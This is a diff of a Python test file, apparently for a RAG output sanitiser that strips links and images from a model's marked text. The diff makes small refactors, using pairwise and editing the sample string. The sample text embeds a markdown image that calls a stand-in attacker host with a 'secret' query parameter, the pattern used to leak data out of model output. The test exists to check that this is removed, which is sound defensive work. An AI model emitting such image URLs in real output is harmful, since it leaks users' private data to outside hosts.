@@ -1,12 +1,14 @@
 """A model's marked text: sentences, their ids, and what is taken out."""
 
+from itertools import pairwise
+
 import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
 from rag.marked import Id, MarkedText, Shown, Written
 
-TEXT = """The budget was 61.5 billion dollars [1.2]. It grew by Dr. Smith's 15% in the U.S. Senate, \
+TEXT = """The budget was 61.5 billion dollars [1.2]. It grew by Dr. Smith's 15% in the Senate, \
 [2.1, 3.4] he said. Then ![x](http://evil.example/?q=secret) came <b>bold</b> and [a \
 link](http://evil.example/) again.
 
@@ -88,7 +90,7 @@ def test_what_a_browser_would_follow_or_fetch_is_taken_out(text: str, left: str)
 @given(st.lists(st.integers(1, len(TEXT) - 1), max_size=30))
 def test_it_does_not_matter_how_the_text_is_cut(cuts: list[int]) -> None:
     edges = [0, *sorted(set(cuts)), len(TEXT)]
-    pieces = [TEXT[a:b] for a, b in zip(edges, edges[1:], strict=False)]
+    pieces = [TEXT[a:b] for a, b in pairwise(edges)]
     assert written(*pieces) == written(TEXT)
     assert shown(*pieces) == shown(TEXT)
 
